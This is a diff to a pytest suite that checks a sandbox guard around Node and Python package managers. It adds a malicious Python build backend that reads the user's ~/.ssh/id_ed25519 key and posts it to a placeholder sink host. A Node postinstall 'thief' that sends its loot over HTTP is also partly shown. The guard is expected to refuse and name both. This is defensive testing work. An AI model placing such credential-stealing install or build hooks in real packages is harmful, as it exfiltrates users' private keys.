@@ -1,4 +1,4 @@
-"""The guard around every manager of Node packages: a theft is refused and named, its honest twin installs clean."""
+"""The guard around every further manager: a theft is refused and named, its honest twin installs clean."""
 
 from collections.abc import Iterator
 from pathlib import Path
@@ -6,13 +6,14 @@ from typing import Any
 
 import pytest
 
+import node_house
+import python_house
 from clients import client
 from lab.demands import demand
 from lab.guard import Outcome, guarded, run
 from lab.packages import filled
 from lab.registry import Registry
 from lab.world import World
-from node_house import KINDS, environment
 
 _THIEF = """
 const fs = require('fs'), os = require('os'), http = require('http')
@@ -25,35 +26,95 @@ told.end(loot)
 _HONEST = "require('fs').writeFileSync('done', require('os').homedir())\n"
 
 
-class Yard:
-    """A project of a user of one manager, and a registry with a thief and its twin."""
+_BACKEND = """
+[build-system]
+requires = []
+build-backend = "{package}"
+backend-path = ["."]
 
-    def __init__(self, name: str, world: World, registry: Registry) -> None:
-        self.name, self.world, self.kind = name, world, KINDS[name]
+[project]
+name = "{name}"
+version = "1.0.0"
+"""
+_PYTHON_THIEF = """
+import contextlib, urllib.request
+from pathlib import Path
+from lab_backend import *
+
+loot = b"nothing"
+with contextlib.suppress(OSError):
+    loot = Path.home().joinpath(".ssh", "id_ed25519").read_bytes()
+with contextlib.suppress(OSError):
+    urllib.request.urlopen("http://@SINK@:8080/log", loot, timeout=3)
+"""
+_PYTHON_HONEST = "from lab_backend import *\n"
+
+
+class Yard:
+    """A user of one manager, who may install a thief or its honest twin by name."""
+
+    def __init__(self, name: str, family: str, world: World, purl: str, stage: str) -> None:
+        self.name, self.family, self.world, self.purl, self.stage = name, family, world, purl, stage
         self.mine = world.project
-        (self.mine / ".npmrc").write_text(f"registry={registry.url}\n")
-        self.kind.approve(self.mine, ("light-fingers", "clean-hands"))
-        for package, code in (("light-fingers", _THIEF), ("clean-hands", _HONEST)):
-            manifest = {"name": package, "version": "1.0.0", "scripts": {"postinstall": "node work.js"}}
-            registry.add(manifest, {"work.js": filled(code.encode(), world.words()).decode()})
-        self.environment = {
-            **environment(name, world.folder, registry.url),
-            **{key: world.environment()[key] for key in ("HOME", "TMPDIR")},
-        }
+        self.command: tuple[str, ...] = ()
+        self.environment = {key: world.environment()[key] for key in ("HOME", "TMPDIR")}
 
     def add(self, package: str, *, guard: bool = True) -> Outcome:
         """Install a package, behind the guard unless told otherwise."""
         report = self.world.folder / "report.json" if guard else None
-        command = [str(client(self.name)), *self.kind.add, package]
+        command = [str(client(self.name)), *self.command, package]
         return run(guarded(command, report) if guard else command, self.environment, self.mine, report)
 
 
-@pytest.fixture(params=KINDS)
-def yard(request: pytest.FixtureRequest, lab: None) -> Iterator[Yard]:
+def _node(name: str, world: World, registry: Registry) -> Yard:
+    kind = node_house.KINDS[name]
+    yard = Yard(name, kind.family, world, "pkg:npm/light-fingers@1.0.0", "script")
+    yard.command = kind.add
+    (yard.mine / ".npmrc").write_text(f"registry={registry.url}\n")
+    kind.approve(yard.mine, ("light-fingers", "clean-hands"))
+    for package, code in (("light-fingers", _THIEF), ("clean-hands", _HONEST)):
+        manifest = {"name": package, "version": "1.0.0", "scripts": {"postinstall": "node work.js"}}
+        registry.add(manifest, {"work.js": filled(code.encode(), world.words()).decode()})
+    yard.environment = node_house.environment(name, world.folder, registry.url) | yard.environment
+    return yard
+
+
+def _python(name: str, world: World) -> Yard:
+    kind = python_house.KINDS[name]
+    yard = Yard(name, name, world, "pkg:pypi/light-fingers@1.0.0", "build")
+    yard.command = kind.add
+    if kind.project:
+        project = kind.project.replace("@INDEX@", world.index.url)
+        (yard.mine / "pyproject.toml").write_text(project)
+    yard.environment = python_house.environment(name, world.folder, world.index.url) | yard.environment
+    return yard
+
+
+def _sources(folder: Path) -> list[Path]:
+    """The thief and its twin as source packages."""
+    made = []
+    for name, text in (("light-fingers", _PYTHON_THIEF), ("clean-hands", _PYTHON_HONEST)):
+        place, module = folder / f"{name}-1.0.0", f"{name.replace('-', '_')}_build"
+        place.mkdir()
+        (place / "pyproject.toml").write_text(_BACKEND.format(name=name, package=module))
+        (place / f"{module}.py").write_text(text)
+        (place / f"{module}_app.py").write_text("def main():\n    print('at your service')\n")
+        (place / "entry_points.txt").write_text(f"[console_scripts]\n{name} = {module}_app:main\n")
+        made.append(place)
+    return made
+
+
+@pytest.fixture(params=[*node_house.KINDS, *python_house.KINDS])
+def yard(request: pytest.FixtureRequest, lab: None, tmp_path: Path) -> Iterator[Yard]:
     """For each manager, everything one test needs."""
-    demand(None if client(request.param) else f"{request.param} could not be fetched once")
+    name = request.param
+    demand(None if client(name) else f"{name} could not be fetched once")
+    if name in python_house.KINDS:
+        with World(_sources(tmp_path)) as world:
+            yield _python(name, world)
+        return
     with World([]) as world, Registry() as registry:
-        yield Yard(request.param, world, registry)
+        yield _node(name, world, registry)
 
 
 def _refused(outcome: Outcome) -> list[dict[str, Any]]:
@@ -75,11 +136,11 @@ def test_a_theft_is_refused_and_named(guard: None, yard: Yard) -> None:
     assert yard.world.leaks() == []
     assert outcome.status == 3, outcome.out + outcome.err
     assert outcome.report is not None
-    assert outcome.report["run"]["manager"] == yard.kind.family
+    assert outcome.report["run"]["manager"] == yard.family
     refused = _refused(outcome)
     assert {finding["act"] for finding in refused} == {"file.read", "net.connect"}
     blamed = {(finding["package"], finding["identity"], finding["stage"]) for finding in refused}
-    assert blamed == {("pkg:npm/light-fingers@1.0.0", "verified", "script")}
+    assert blamed == {(yard.purl, "verified", yard.stage)}
 
 
 def test_the_honest_twin_is_clean(guard: None, yard: Yard) -> None:
@@ -87,4 +148,5 @@ def test_the_honest_twin_is_clean(guard: None, yard: Yard) -> None:
     outcome = yard.add("clean-hands")
 
     assert (outcome.status, _refused(outcome)) == (0, []), outcome.out + outcome.err
-    assert next(iter(Path(yard.mine).rglob("clean-hands/done")), None) is not None
+    if yard.stage == "script":
+        assert next(iter(Path(yard.mine).rglob("clean-hands/done")), None) is not None
